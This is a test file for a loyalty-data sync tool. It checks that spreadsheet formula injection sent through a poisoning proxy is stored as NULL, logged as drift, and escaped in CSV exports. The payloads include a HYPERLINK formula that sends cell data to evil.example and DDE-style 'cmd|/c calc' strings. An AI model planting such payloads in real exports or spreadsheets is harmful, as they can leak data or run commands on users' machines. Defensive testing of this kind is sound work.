import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDatabase } from '../../src/db/open.js';
import { startSimulator, type SimulatorHandle } from '../../src/simulator/index.js';
import { runCli } from '../helpers/cli.js';
import { startRewritingProxy, type RewritingProxy } from '../helpers/rewritingProxy.js';
import { tempDir } from '../helpers/tempDir.js';

/** What a spreadsheet runs as a formula: a cell starting with =, +, - and a letter, @, tab or CR. */
const FORMULA = /^(?:[=+@\t\r]|-[A-Za-z])/;

type Order = Record<string, unknown> & { id: number; customer: Record<string, unknown> };

/** Poisons every third order: formulas in money, timestamp and integer fields, and a customer email that is a formula too. */
function poison(path: string, body: unknown): unknown {
  if (path !== '/v2/orders') return body;
  const page = body as { orders: Order[] };
  for (const order of page.orders) {
    if (order.id % 3 !== 0) continue;
    order.total = '=HYPERLINK("http://evil.example/?"&A1,"refund")';
    order.total_paid = '-cmd|"/c calc"!A0';
    order.created_at = '@SUM(1+1)*cmd|"/c calc"!A0';
    order.customer = { ...order.customer, id: '+1+1' };
  }
  return body;
}

function csvCells(path: string): string[] {
  const rows = parse(readFileSync(path, 'utf8')) as string[][];
  return rows.flat();
}

function filesUnder(dir: string): string[] {
  return readdirSync(dir, { recursive: true, encoding: 'utf8' }).map((name) => join(dir, name));
}

function warnings(stderr: string): Array<{ msg: string; drift?: { path: string; kind: string } }> {
  return stderr
    .split('\n')
    .filter((line) => line.startsWith('{'))
    .map((line) => JSON.parse(line) as { level: number; msg: string; drift?: { path: string; kind: string } })
    .filter((record) => record.level === 40);
}

describe('typed columns hold their type', () => {
  let sim: SimulatorHandle;
  let proxy: RewritingProxy;
  let env: Record<string, string>;
  let dir: string;
  const syncs: string[] = [];
  beforeAll(async () => {
    sim = await startSimulator({ seed: 5, size: 'tiny' });
    proxy = await startRewritingProxy(sim.url, poison);
    dir = tempDir('loyalty-typed-');
    env = { LOYALTY_BASE_URL: proxy.url, LOYALTY_API_KEY: sim.keys.full, LOYALTY_DB: join(dir, 'mirror.db'), LOYALTY_EXPORT_DIR: join(dir, 'exports'), LOG_LEVEL: 'warn' };
    for (let run = 0; run < 2; run += 1) {
      const sync = await runCli(['sync', '--full', '--stream', 'orders'], { env });
      expect(sync.code, sync.stderr).toBe(0);
      syncs.push(sync.stderr);
    }
  });
  afterAll(async () => {
    await proxy.close();
    await sim.close();
  });

  it('stores a value that does not parse as NULL, keeps it in raw, and records it as drift of kind type', () => {
    const db = openDatabase(env.LOYALTY_DB, { readonly: true });
    const poisoned = db.prepare('SELECT total, total_paid, created_at, customer_id, raw FROM orders WHERE id % 3 = 0').all() as Array<Record<string, unknown>>;
    expect(poisoned.length).toBeGreaterThan(1);
    for (const row of poisoned) {
      expect([row.total, row.total_paid, row.created_at, row.customer_id]).toEqual([null, null, null, null]);
      expect(JSON.parse(row.raw as string)).toMatchObject({ total: expect.stringMatching(/^=HYPERLINK/), created_at: expect.stringMatching(/^@SUM/) });
    }
    const clean = db.prepare('SELECT total, created_at FROM orders WHERE id % 3 <> 0 LIMIT 1').get() as { total: string; created_at: string };
    expect(clean.total).toMatch(/^-?\d+\.\d{2}$/);
    const drift = db.prepare(`SELECT path, example, count FROM schema_drift WHERE stream = 'orders' AND kind = 'type' ORDER BY path`).all() as Array<{ path: string; example: string; count: number }>;
    expect(drift.map((entry) => entry.path)).toEqual(['created_at', 'customer.id', 'total', 'total_paid']);
    // Both syncs counted every poisoned record (a refresh window may read some twice).
    for (const entry of drift) expect(entry.count).toBeGreaterThanOrEqual(2 * poisoned.length);
    db.close();
  });

  it('warns once per field in each run, not once per row', () => {
    for (const stderr of syncs) {
      const typeWarnings = warnings(stderr).filter((record) => record.drift?.kind === 'type');
      expect(typeWarnings.map((record) => record.drift!.path).sort()).toEqual(['created_at', 'customer.id', 'total', 'total_paid']);
      expect(typeWarnings.find((record) => record.drift!.path === 'total')!.msg).toContain('orders records carry total values that are not a decimal string');
    }
  });

  it('exports no CSV cell that starts a formula, from this mirror or from one written before the check', async () => {
    // A mirror filled by an earlier version holds the formulas in its typed columns; a negative amount is a number.
    const db = openDatabase(env.LOYALTY_DB);
    db.prepare(`UPDATE orders SET total = '=1+1', total_tax = '-2.50', total_paid = '-cmd|calc', created_at = '@SUM(A1)', updated_at = '+1', customer_id = '=2+2' WHERE id = (SELECT min(id) FROM orders WHERE id % 3 = 1)`).run();
    db.close();
    const exported = await runCli(['export', '--format', 'csv'], { env });
    expect(exported.code, exported.stderr).toBe(0);
    const csvs = filesUnder(join(dir, 'exports')).filter((path) => path.endsWith('.csv'));
    expect(csvs.length).toBeGreaterThan(0);
    const cells = csvs.flatMap(csvCells);
    expect(cells.filter((cell) => FORMULA.test(cell))).toEqual([]);
    expect(cells).toContain("'=1+1");
    expect(cells).toContain('-2.50');
    expect(cells).toContain("'-cmd|calc");
  });
});
